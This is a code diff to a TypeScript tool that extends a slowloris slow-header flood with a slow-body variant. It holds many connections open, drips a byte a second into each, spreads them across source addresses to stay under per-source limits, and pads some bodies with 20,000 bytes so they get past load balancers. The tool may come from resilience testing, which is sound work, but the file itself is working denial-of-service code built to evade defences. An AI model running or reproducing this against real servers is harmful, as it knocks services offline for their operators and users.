@@ -1,9 +1,14 @@
 import { connect, type Socket } from "node:net";
 import { runAsProgram } from "./program";
 
-/** A slow-header flood (often called slowloris): connections that never finish asking. */
-export interface SlowHeaders {
+/** Connections that never finish asking: with their headers (often called slowloris), or with a body. */
+export interface SlowRequests {
   readonly url: string;
+  /**
+   * What each connection sends a byte of now and then. Bodies go on after one byte and after `begun` bytes in turn, and are
+   * announced and streamed in turn. @default "headers"
+   */
+  readonly part?: "headers" | "body";
   /** Local addresses to come from; each stays below what one source may open in a while. */
   readonly sources: readonly string[];
   /** Connections that each source opens in a second. */
@@ -15,7 +20,7 @@ export interface SlowHeaders {
 }
 
 /** What became of it. */
-export interface SlowHeadersResult {
+export interface SlowRequestsResult {
   /** Connections that the server took: it had not closed them after `settled` seconds. */
   readonly opened: number;
   /** Connections that it closed sooner, or did not answer. */
@@ -32,8 +37,11 @@ const settled = 0.5;
 /** Milliseconds between two rounds of opening, and between two looks at how many are open. */
 const tick = 50;
 
-/** Milliseconds between two bytes of a header on one connection. */
+/** Milliseconds between two bytes on one connection. */
 const drip = 1000;
+
+/** Bytes of a body after which an instance has the request: more than load balancers wait for. */
+const begun = 20_000;
 
 /** A connection that is open. */
 interface Open {
@@ -42,29 +50,51 @@ interface Open {
   /** When its next byte is due. They come evenly: connections of many sources do not know of one another. */
   next: number;
   taken: boolean;
+  readonly piece: string;
+}
+
+/** What a connection sends at first, and what it adds now and then. */
+interface Words {
+  readonly beginning: string;
+  readonly piece: string;
+}
+
+function slowHeaders(host: string): Words {
+  return { beginning: `GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `, piece: "a" };
+}
+
+function slowBody(host: string, number: number): Words {
+  const streamed = number % 2 === 1;
+  const bytes = (count: number) => (streamed ? `${count.toString(16)}\r\n${"a".repeat(count)}\r\n` : "a".repeat(count));
+  const framing = streamed ? "Transfer-Encoding: chunked" : "Content-Length: 1000000";
+  const head = `POST /entries HTTP/1.1\r\nHost: ${host}\r\n${framing}\r\n\r\n`;
+  return { beginning: head + bytes(number % 4 < 2 ? 1 : begun), piece: bytes(1) };
 }
 
 /**
- * Opens connections one after the other, evenly, and drips a byte of a header a second into each that is open.
+ * Opens connections one after the other, evenly, and drips a byte a second into each that is open.
  *
  * @param stop ends it early
  */
-export async function slowHeaders(
-  { url, sources, rate, duration, ramp }: SlowHeaders,
+export async function slowRequests(
+  { url, part = "headers", sources, rate, duration, ramp }: SlowRequests,
   stop?: AbortSignal,
-): Promise<SlowHeadersResult> {
-  const { hostname: host, port } = new URL(url);
+): Promise<SlowRequestsResult> {
+  const { hostname, port } = new URL(url);
+  const host = hostname.replace(/^\[|\]$/g, "");
   const open = new Map<Socket, Open>();
   const sockets = new Set<Socket>();
   let [opened, refused] = [0, 0];
   const held = new Average();
-  const start = (localAddress: string | undefined) => {
+  const start = (number: number) => {
+    const localAddress = sources[number % sources.length];
+    const { beginning, piece } = part === "body" ? slowBody(hostname, number) : slowHeaders(hostname);
     const socket = connect({ host, port: Number(port || 80), ...(localAddress === undefined ? {} : { localAddress }) });
     sockets.add(socket);
     socket.on("connect", () => {
       const since = performance.now();
-      open.set(socket, { since, next: since + drip, taken: false });
-      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
+      open.set(socket, { since, next: since + drip, taken: false, piece });
+      socket.write(beginning);
     });
     socket.on("error", () => undefined);
     // The server's answer, 408, is not read, and its end ends the connection.
@@ -75,19 +105,19 @@ export async function slowHeaders(
       sockets.delete(socket);
     });
   };
-  const begun = performance.now();
-  const seconds = () => (performance.now() - begun) / 1000;
+  const beginning = performance.now();
+  const seconds = () => (performance.now() - beginning) / 1000;
   // A source that was late does not catch up at once: that would be more than it may, and refused.
   const most = Math.ceil((1.5 * rate * sources.length * tick) / 1000);
   const over = () => stop?.aborted === true || seconds() >= duration;
   for (let started = 0; !over(); await new Promise((resolve) => setTimeout(resolve, tick))) {
     const due = Math.min(started + most, Math.floor(seconds() * rate * sources.length));
-    for (; started < due; started++) start(sources[started % sources.length]);
+    for (; started < due; started++) start(started);
     const now = performance.now();
     for (const [socket, state] of open) {
       if (now >= state.next) {
         state.next += drip;
-        socket.write("a");
+        socket.write(state.piece);
       }
       if (state.taken || now - state.since < settled * 1000) continue;
       state.taken = true;
@@ -115,10 +145,10 @@ class Average {
     this.fewest = Math.min(this.fewest, value);
   }
 
-  result(): Pick<SlowHeadersResult, "held" | "fewest"> {
+  result(): Pick<SlowRequestsResult, "held" | "fewest"> {
     if (this.time === 0) return { held: this.last?.value ?? 0, fewest: this.last?.value ?? 0 };
     return { held: Math.round(this.sum / this.time), fewest: this.fewest };
   }
 }
 
-if (require.main === module) runAsProgram<SlowHeaders>(slowHeaders);
+if (require.main === module) runAsProgram<SlowRequests>(slowRequests);
